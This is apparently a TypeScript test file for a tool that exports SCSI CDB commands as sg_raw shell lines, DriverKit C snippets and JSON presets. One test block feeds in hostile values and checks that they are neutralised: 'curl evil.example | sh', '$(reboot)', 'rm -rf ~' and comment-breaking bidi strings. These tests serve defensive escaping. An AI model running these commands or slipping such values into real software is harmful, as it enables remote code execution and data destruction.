import { describe, expect, it } from 'vitest';
import {
  driverKitSnippet,
  jsonPreset,
  sgRawCommand,
  transferLengthNote,
} from '../../shared/export/formats';
import { parsePresetsJson, presetIdFor } from '../../shared/presets-file';
import type { VendorSet } from '../../shared/vendor-sets/model';
import { findVendorSet } from '../../shared/vendor-sets/registry';

const inquiry = {
  cdb: Uint8Array.from([0x12, 0, 0, 0, 0x24, 0]),
  direction: 'in' as const,
  transferLength: 36,
  lun: 0,
};

describe('export formats', () => {
  it('sg_raw: -r for data-in, -s/-i for data-out, nothing for no data', () => {
    expect(sgRawCommand(inquiry)).toBe('sg_raw -r 36 /dev/sg0 12 00 00 00 24 00');
    expect(
      sgRawCommand(
        {
          cdb: Uint8Array.from([0x2a, 0, 0, 0, 0, 0, 0, 0, 1, 0]),
          direction: 'out',
          transferLength: 512,
          lun: 0,
        },
        '/dev/sg1',
        'block.bin',
      ),
    ).toBe('sg_raw -s 512 -i block.bin /dev/sg1 2a 00 00 00 00 00 00 00 01 00');
    expect(
      sgRawCommand({ cdb: new Uint8Array(6), direction: 'none', transferLength: 0, lun: 0 }),
    ).toBe('sg_raw /dev/sg0 00 00 00 00 00 00');
  });

  it('DriverKit: the padded CDB, the matching length, and the two direction enums right', () => {
    const s = driverKitSnippet(inquiry);
    expect(s).toContain(
      'SetCommandCDB(&command.fCommandDescriptorBlock, 0x12, 0x00, 0x00, 0x00, 0x24, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00);',
    );
    expect(s).toContain('command.fRequestedByteCountOfTransfer = 36;');
    expect(s).toContain('command.fBufferDirection = kIOMemoryDirectionIn;');
    expect(s).toContain(
      'command.fDataTransferDirection = kSCSIDataTransfer_FromTargetToInitiator;',
    );
    expect(s).toMatch(/memset\(senseBuffer, 0/);
    // Nothing Apple documents says what the kernel writes to the sense buffer when there is no
    // sense, nor that the buffers must be IOBufferMemoryDescriptors (SCSIDeviceOutParameters
    // reference): the snippet claims neither.
    expect(s).not.toMatch(/leaves it alone|must be mapped/);
    expect(s).toContain(
      'Apple does not document what the kernel leaves there when there is no sense',
    );
    expect(s).toContain('working dexts pass mapped IOBufferMemoryDescriptors, not stack arrays');
    const out = driverKitSnippet({
      cdb: Uint8Array.from([0x3b, 5, 0, 0, 0, 0, 0, 4, 0, 0]),
      direction: 'out',
      transferLength: 1024,
      lun: 1,
    });
    expect(out).toContain('command.fBufferDirection = kIOMemoryDirectionOut;');
    expect(out).toContain(
      'command.fDataTransferDirection = kSCSIDataTransfer_FromInitiatorToTarget;',
    );
    expect(out).toContain('command.fLogicalUnitNumber = 1;');
    expect(
      driverKitSnippet({ cdb: new Uint8Array(6), direction: 'in', transferLength: 0, lun: 0 }),
    ).toContain('kIOMemoryDirectionNone');
  });

  it('JSON preset: one preset in the presets file format, data-out kept, importable', () => {
    const r = parsePresetsJson(jsonPreset(inquiry), 'exported');
    expect(r).toEqual({
      ok: true,
      value: [
        {
          id: 'cdb-120000002400-inquiry',
          name: 'INQUIRY',
          folder: '',
          cdb: '12 00 00 00 24 00',
          direction: 'in',
          transferLength: 36,
          lun: 0,
          notes: '',
        },
      ],
    });
    const write = {
      cdb: Uint8Array.from([0x3b, 0x02, 0, 0, 0, 0, 0, 0, 4, 0]),
      direction: 'out' as const,
      transferLength: 4,
      lun: 1,
      dataOut: Uint8Array.from([0xde, 0xad, 0xbe, 0xef]),
    };
    const w = parsePresetsJson(jsonPreset(write), 'exported');
    expect(w.ok && w.value[0]).toMatchObject({
      name: 'WRITE BUFFER',
      dataOut: 'de ad be ef',
      lun: 1,
      transferLength: 4,
    });
  });
});

describe('long CDBs', () => {
  // A variable-length CDB (7Fh, SPC-5): 8 header bytes, then ADDITIONAL CDB LENGTH more.
  const long = (length: number, last = 0): Uint8Array => {
    const c = new Uint8Array(length);
    c[0] = 0x7f;
    c[7] = length - 8;
    c[length - 1] = last;
    return c;
  };

  it('JSON preset: a 64-byte CDB gets an id the importer takes, and two that differ only at the end get two ids', () => {
    const a = parsePresetsJson(
      jsonPreset({ cdb: long(64, 1), direction: 'none', transferLength: 0, lun: 0 }),
      'a',
    );
    const b = parsePresetsJson(
      jsonPreset({ cdb: long(64, 2), direction: 'none', transferLength: 0, lun: 0 }),
      'b',
    );
    expect(a.ok && b.ok).toBe(true);
    const [idA, idB] = [a.ok && a.value[0]?.id, b.ok && b.value[0]?.id];
    expect(
      typeof idA === 'string' && idA.length <= 100 && idA.startsWith('cdb-7f00000000000038'),
    ).toBe(true);
    expect(idA).not.toBe(idB);
  });

  it('a preset id keeps the whole CDB and the name while they fit, and only then hashes', () => {
    const fits = presetIdFor(long(40), 'v');
    expect(fits).toBe(`cdb-7f00000000000020${'00'.repeat(32)}-v`);
    const past = presetIdFor(long(48), 'v');
    expect(past).toMatch(/^cdb-7f00000000000028[0-9a-f]{44}-[0-9a-f]{8}-v$/);
    // The name is in the hash: the same long CDB under two names is two presets.
    expect(presetIdFor(long(48), 'w').split('-')[2]).not.toBe(past.split('-')[2]);
  });

  it('DriverKit: a CDB longer than its 16-byte SCSICommandDescriptorBlock is an #error, not cut to 16 bytes', () => {
    const s = driverKitSnippet({ cdb: long(32), direction: 'none', transferLength: 0, lun: 0 });
    expect(s.split('\n')[1]).toBe(
      `#error "this 32-byte CDB does not fit DriverKit's 16-byte SCSICommandDescriptorBlock: UserSendCDB cannot send it, and the first 16 bytes alone are another command"`,
    );
    expect(s).not.toContain('SetCommandCDB');
    // 16 bytes still fit.
    expect(
      driverKitSnippet({ cdb: long(16), direction: 'none', transferLength: 0, lun: 0 }),
    ).toContain('SetCommandCDB(&command.fCommandDescriptorBlock, 0x7f,');
  });
});

describe('the DriverKit length comment', () => {
  const read10 = (blocks: number) => Uint8Array.from([0x28, 0, 0, 0, 0, 0, 0, 0, blocks, 0]);

  it('names the CDB field the requested byte count equals', () => {
    expect(driverKitSnippet(inquiry)).toContain(
      "fRequestedByteCountOfTransfer = 36; // equal to the CDB's ALLOCATION LENGTH (36 bytes)",
    );
    expect(
      transferLengthNote({
        cdb: read10(2),
        direction: 'in',
        transferLength: 8192,
        lun: 0,
        blockSize: 4096,
      }),
    ).toBe("equal to the CDB's TRANSFER LENGTH (8192 bytes)");
  });

  it('says DISAGREES, with the CDB’s number, when the two differ — never "equal"', () => {
    const s = driverKitSnippet({ cdb: read10(1), direction: 'in', transferLength: 36, lun: 0 });
    expect(s).toContain(
      'fRequestedByteCountOfTransfer = 36; // DISAGREES with the CDB, which asks for 512 bytes in',
    );
    expect(s).not.toMatch(/equal to the CDB/);
    expect(
      transferLengthNote({ cdb: read10(1), direction: 'none', transferLength: 0, lun: 0 }),
    ).toMatch(/^DISAGREES with the CDB, which asks for 512 bytes in/);
  });

  it('claims nothing for a CDB the catalog cannot measure', () => {
    expect(
      transferLengthNote({
        cdb: Uint8Array.from([0xc7, 0, 0, 0, 0, 0]),
        direction: 'in',
        transferLength: 8,
        lun: 0,
      }),
    ).toMatch(/does not know this CDB's length field/);
    expect(
      transferLengthNote({ cdb: new Uint8Array(6), direction: 'none', transferLength: 0, lun: 0 }),
    ).toBe('no data phase, as the CDB says');
  });
});

describe('text from a vendor set or a caller in the exports', () => {
  // A set built in memory: the file format refuses these names (format.test.ts), the exports
  // must not depend on that.
  const example = findVendorSet('example') as VendorSet;
  const hostile: VendorSet = {
    ...example,
    commands: example.commands.map((c) =>
      c.spec.opcode !== 0xc4
        ? c
        : {
            ...c,
            spec: {
              ...c.spec,
              name: 'ACME READ LOG\nIOLog("pwned"); system("curl evil.example | sh"); /*',
              fields: c.spec.fields.map((f) =>
                f.key === 'allocationLength'
                  ? { ...f, name: 'ALLOCATION LENGTH */\r\nkr = KERN_SUCCESS; //' }
                  : f,
              ),
            },
          },
    ),
  };
  const readLog = {
    cdb: Uint8Array.from([0xc4, 0, 0, 0, 0, 0, 0, 0, 16, 0]),
    direction: 'in' as const,
    transferLength: 16,
    lun: 0,
  };

  it('DriverKit: a line break or a bidirectional override in a name stays inside its comment', () => {
    const lines = driverKitSnippet(readLog, [hostile]).split('\n');
    expect(lines).toHaveLength(driverKitSnippet(readLog, [example]).split('\n').length);
    expect(lines[0]).toBe(
      '// ACME READ LOG.IOLog("pwned"); system("curl evil.example | sh"); /*: c4 00 00 00 00 00 00 00 10 00 (10-byte CDB, 16 bytes in)',
    );
    expect(lines).toContain(
      "command.fRequestedByteCountOfTransfer = 16; // equal to the CDB's ALLOCATION LENGTH */..kr = KERN_SUCCESS; // (16 bytes)",
    );
    const named = driverKitSnippet({ ...inquiry, name: 'INQUIRY \u202e)"dwp"(goLOI \u2066x' });
    expect(named.split('\n')[0]).toBe(
      '// INQUIRY .)"dwp"(goLOI .x: 12 00 00 00 24 00 (6-byte CDB, 36 bytes in)',
    );
  });

  it('sg_raw: a path the shell would split or expand is one quoted word', () => {
    expect(sgRawCommand(inquiry, "/dev/disk/by-id/usb-ACME 'X'$(reboot)")).toBe(
      "sg_raw -r 36 '/dev/disk/by-id/usb-ACME '\\''X'\\''$(reboot)' 12 00 00 00 24 00",
    );
    expect(sgRawCommand({ ...inquiry, direction: 'out' }, '/dev/sg1', 'data; rm -rf ~.bin')).toBe(
      "sg_raw -s 36 -i 'data; rm -rf ~.bin' /dev/sg1 12 00 00 00 24 00",
    );
  });

  it('JSON preset: a name with control characters is escaped JSON and reads back as it was', () => {
    const name = 'ACME \u001b[31mRED\u001b[0m\n';
    const json = jsonPreset({ ...inquiry, name });
    expect(json).not.toContain('\u001b');
    expect(JSON.parse(json).presets[0].name).toBe(name);
  });
});

describe('reading a presets file written by hand', () => {
  it('takes any hex case and form, and makes a stable id for a preset without one', () => {
    const r = parsePresetsJson(
      JSON.stringify({
        usbcdbPresets: 1,
        presets: [
          {
            name: 'Inquiry',
            cdb: '12 00 00 00 24 00'.toUpperCase(),
            direction: 'in',
            transferLength: 36,
          },
        ],
      }),
      'hand.json',
    );
    expect(r.ok && r.value[0]).toMatchObject({
      id: 'cdb-120000002400-inquiry',
      cdb: '12 00 00 00 24 00',
      folder: '',
      lun: 0,
    });
    expect(presetIdFor(Uint8Array.from([0, 0, 0, 0, 0, 0]), 'Ready?  Now!')).toBe(
      'cdb-000000000000-ready-now',
    );
  });

  it('names a bad preset by number and name, and its field in words', () => {
    const r = parsePresetsJson(
      JSON.stringify({
        usbcdbPresets: 1,
        presets: [{ name: 'bad', cdb: '12 zz', direction: 'in', transferLength: 1 }],
      }),
      'hand.json',
    );
    expect(!r.ok && r.error.message).toMatch(
      /^hand\.json: preset 1 \("bad"\): CDB: "zz" is not hexadecimal/,
    );
  });
});
